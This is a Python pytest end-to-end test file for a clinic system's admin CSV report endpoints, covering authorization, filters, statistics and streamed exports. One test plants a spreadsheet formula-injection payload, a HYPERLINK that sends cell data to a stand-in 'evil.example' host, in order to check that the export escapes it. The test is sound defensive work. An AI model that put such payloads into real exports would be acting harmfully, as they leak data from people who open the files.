"""``GET /api/v1/admin/reports/*.csv`` over HTTP on both backends: who may download,
the CSV as a spreadsheet would read it, the filters of ``GET /appointments``, the
figures of ``GET /admin/stats``, and a large export streamed page by page."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest

from hduce.application.admin.reports import APPOINTMENT_COLUMNS, ExportAppointments
from hduce.application.ports import AppointmentQuery, UnitOfWorkFactory
from hduce.domain.appointments import Appointment, AppointmentStatus, StatusChange
from hduce.domain.identity import Actor, Role
from hduce.domain.ids import uuid7
from hduce.domain.scheduling import TimeSlot
from tests.e2e.admin.conftest import ADMIN_API, AdminApp
from tests.e2e.harness import APPOINTMENTS, assert_problem
from tests.unit.application.stats_dataset import NOW, utc

REPORTS = f"{ADMIN_API}/reports"
ROUTES = [f"{REPORTS}/{name}.csv" for name in ("appointments", "doctors", "specialties", "months")]
VISIT = timedelta(minutes=30)


def parse(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="')
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def download(app: AdminApp, name: str, **params: Any) -> list[dict[str, str]]:
    response = await app.client.get(
        f"{REPORTS}/{name}.csv", params=params, headers=app.headers["admin"]
    )
    return parse(response)


async def listed_ids(app: AdminApp, **params: Any) -> list[str]:
    """The ids ``GET /appointments`` gives for the same filters, in its order."""
    ids: list[str] = []
    offset = 0
    while True:
        response = await app.client.get(
            APPOINTMENTS,
            params={**params, "limit": 100, "offset": offset},
            headers=app.headers["admin"],
        )
        assert response.status_code == 200, response.text
        body = response.json()
        ids += [item["id"] for item in body["items"]]
        offset += 100
        if offset >= body["total"]:
            return ids


# ------------------------------------------------------------------ who


@pytest.mark.parametrize("route", ROUTES)
async def test_anonymous_callers_are_refused_with_401(admin_app: AdminApp, route: str) -> None:
    assert_problem(await admin_app.client.get(route), 401, "unauthenticated")


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("role", ["patient", "doctor"])
async def test_patients_and_doctors_are_refused_with_403(
    embedded_admin_app: AdminApp, route: str, role: str
) -> None:
    response = await embedded_admin_app.client.get(route, headers=embedded_admin_app.headers[role])
    assert_problem(response, 403, "forbidden")


# ------------------------------------------------------------------ appointments


async def test_the_appointments_report_lists_what_the_json_api_lists(admin_app: AdminApp) -> None:
    world = admin_app.world
    rows = await download(admin_app, "appointments")

    assert list(rows[0]) == list(APPOINTMENT_COLUMNS)
    assert [row["appointment_id"] for row in rows] == await listed_ids(admin_app)
    assert len(rows) == len(world.appointments)
    first = next(r for r in rows if r["appointment_id"] == str(world.appointments[0].id))
    assert first["starts_at"] == "2029-12-08T07:30:00Z"
    assert first["ends_at"] == "2029-12-08T08:00:00Z"
    assert first["status"] == "completed"
    assert first["doctor_name"] == "Bob Beat"
    assert first["patient_name"] == "Patient P3"
    assert first["patient_email"] == world.patients["p3"].email


@pytest.mark.parametrize(
    "filters",
    [
        {"status": "completed,no_show"},
        {"status": "pending"},
        {"doctor": "carla"},
        {"patient": "p1"},
        {"from": "2030-01-03T00:00:00Z", "to": "2030-01-10T10:00:00Z"},
        {"from": "2030-01-01T00:00:00+01:00", "status": "approved", "doctor": "alice"},
    ],
)
async def test_filters_are_those_of_the_json_api(
    embedded_admin_app: AdminApp, filters: dict[str, str]
) -> None:
    app = embedded_admin_app
    params = dict(filters)
    if "doctor" in params:
        params["doctor_id"] = str(app.world.doctor_id(params.pop("doctor")))
    if "patient" in params:
        params["patient_id"] = str(app.world.patients[params.pop("patient")].id)
    rows = await download(app, "appointments", **params)
    expected = await listed_ids(app, **params)

    assert [row["appointment_id"] for row in rows] == expected
    assert 0 < len(expected) < len(app.world.appointments)


async def test_bad_filters_are_refused_before_anything_is_sent(admin_app: AdminApp) -> None:
    headers = admin_app.headers["admin"]
    response = await admin_app.client.get(
        f"{REPORTS}/appointments.csv",
        params={"from": "2030-01-02T00:00:00Z", "to": "2030-01-01T00:00:00Z"},
        headers=headers,
    )
    assert_problem(response, 400, "invalid-input")
    response = await admin_app.client.get(
        f"{REPORTS}/appointments.csv", params={"status": "lost"}, headers=headers
    )
    assert response.status_code == 400


async def test_cells_that_a_spreadsheet_would_run_are_written_as_text(
    embedded_admin_app: AdminApp,
) -> None:
    app = embedded_admin_app
    world = app.world
    formula = '=HYPERLINK("https://evil.example/?"&A1,"see")'
    async with (await app.get(UnitOfWorkFactory))() as uow:
        appointment = Appointment(
            id=uuid7(),
            patient_id=world.patients["p1"].id,
            doctor_id=world.doctor_id("bob"),
            slot=TimeSlot(utc("2030-01-21T09:00"), utc("2030-01-21T09:30")),
            status=AppointmentStatus.PENDING,
            created_at=NOW,
            updated_at=NOW,
            reason=formula + ', "quoted"\nsecond line',
            history=[
                StatusChange(None, AppointmentStatus.PENDING, NOW, Role.ADMIN, world.admin.id)
            ],
        )
        await uow.appointments.add(appointment)
        await uow.commit()

    rows = await download(
        app, "appointments", **{"from": "2030-01-21T00:00:00Z", "to": "2030-01-22T00:00:00Z"}
    )

    assert [row["reason"] for row in rows] == ["'" + formula + ', "quoted"\nsecond line']


# ------------------------------------------------------------------ statistics


async def test_statistics_reports_agree_with_the_dashboard(admin_app: AdminApp) -> None:
    window = {"from": "2030-01-01T00:00:00+01:00", "to": "2030-04-01T00:00:00+02:00"}
    stats = await admin_app.stats(**window)
    world = admin_app.world

    doctors = await download(admin_app, "doctors", **window)
    assert [
        (r["doctor_id"], r["doctor_name"], r["specialty_name"], int(r["appointments"]))
        for r in doctors
    ] == [
        (c["doctor_id"], c["full_name"], name, c["count"])
        for c in stats["appointments"]["by_doctor"]
        for name in [
            "Cardiology"
            if c["specialty_id"] == str(world.specialty_id("cardiology"))
            else "Dermatology"
        ]
    ]

    specialties = await download(admin_app, "specialties", **window)
    by_name = {
        r["specialty_name"]: (int(r["doctors"]), int(r["appointments"])) for r in specialties
    }
    booked = {c["name"]: c["count"] for c in stats["appointments"]["by_specialty"]}
    assert by_name == {
        c["name"]: (c["count"], booked.get(c["name"], 0)) for c in stats["doctors"]["by_specialty"]
    }

    months = await download(admin_app, "months", **window)
    per_month: dict[str, int] = {}
    for day in stats["appointments"]["by_day"]:
        per_month[day["date"][:7]] = per_month.get(day["date"][:7], 0) + day["count"]
    assert [(r["month"], int(r["appointments"])) for r in months] == list(per_month.items())
    assert [r["month"] for r in months] == ["2030-01", "2030-02", "2030-03"]
    assert sum(int(r["appointments"]) for r in months) == stats["appointments"]["total"]


async def test_statistics_reports_refuse_a_window_too_long(embedded_admin_app: AdminApp) -> None:
    response = await embedded_admin_app.client.get(
        f"{REPORTS}/months.csv",
        params={"from": "2030-01-01T00:00:00Z", "to": "2032-01-01T00:00:00Z"},
        headers=embedded_admin_app.headers["admin"],
    )
    assert_problem(response, 400, "invalid-input")


# ------------------------------------------------------------------ large exports

LARGE = 2000
FAR = utc("2031-01-06T08:00")


async def store_many(app: AdminApp, count: int = LARGE) -> list[Appointment]:
    """``count`` appointments from ``FAR`` on, three doctors at each start (so pages end
    in the middle of a start's rows)."""
    world = app.world
    doctors = [world.doctor_id(key) for key in ("alice", "bob", "carla")]
    patients = list(world.patients.values())
    stored = []
    async with (await app.get(UnitOfWorkFactory))() as uow:
        for i in range(count):
            start = FAR + (i // 3) * VISIT
            appointment = Appointment(
                id=uuid7(),
                patient_id=patients[i % len(patients)].id,
                doctor_id=doctors[i % 3],
                slot=TimeSlot(start, start + VISIT),
                status=AppointmentStatus.COMPLETED,
                created_at=NOW,
                updated_at=NOW,
                reason=f"visit {i}",
                history=[
                    StatusChange(None, AppointmentStatus.COMPLETED, NOW, Role.ADMIN, world.admin.id)
                ],
            )
            await uow.appointments.add(appointment)
            stored.append(appointment)
        await uow.commit()
    return stored


async def test_a_large_export_arrives_complete_and_in_order(admin_app: AdminApp) -> None:
    stored = await store_many(admin_app)
    expected = [str(a.id) for a in sorted(stored, key=lambda a: (a.starts_at, a.id))]

    async with admin_app.client.stream(
        "GET",
        f"{REPORTS}/appointments.csv",
        params={"from": "2031-01-01T00:00:00Z"},
        headers=admin_app.headers["admin"],
    ) as response:
        assert response.status_code == 200
        body = b"".join([chunk async for chunk in response.aiter_bytes()])

    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert len(rows) == LARGE
    assert [row["appointment_id"] for row in rows] == expected
    assert {row["reason"] for row in rows} == {f"visit {i}" for i in range(LARGE)}


async def test_the_export_reads_page_by_page_as_it_is_sent(admin_app: AdminApp) -> None:
    """What is stored after the first page was read still appears (later start), so
    the export did not load everything at once; nothing appears twice."""
    app = admin_app
    stored = await store_many(app, 1200)
    export = await app.get(ExportAppointments)
    rows = export(
        Actor(Role.ADMIN, app.world.admin.id),
        AppointmentQuery(starts_from=utc("2031-01-01T00:00")),
    )
    seen = [await anext(rows) for _ in range(10)]
    # Stored now: one before every row read so far, one after every row.
    late = await store_later(app, FAR - VISIT, utc("2032-06-01T09:00"))
    seen += [row async for row in rows]

    ids = [row[0] for row in seen]
    assert len(ids) == len(set(ids))
    assert ids[-1] == str(late[1].id)
    assert str(late[0].id) not in ids
    assert len(ids) == len(stored) + 1


async def store_later(app: AdminApp, *starts: Any) -> list[Appointment]:
    world = app.world
    made = []
    async with (await app.get(UnitOfWorkFactory))() as uow:
        for start in starts:
            appointment = Appointment(
                id=uuid7(),
                patient_id=world.patients["p2"].id,
                doctor_id=world.doctor_id("carla"),
                slot=TimeSlot(start, start + VISIT),
                status=AppointmentStatus.PENDING,
                created_at=NOW,
                updated_at=NOW,
                history=[
                    StatusChange(None, AppointmentStatus.PENDING, NOW, Role.ADMIN, world.admin.id)
                ],
            )
            await uow.appointments.add(appointment)
            made.append(appointment)
        await uow.commit()
    return made
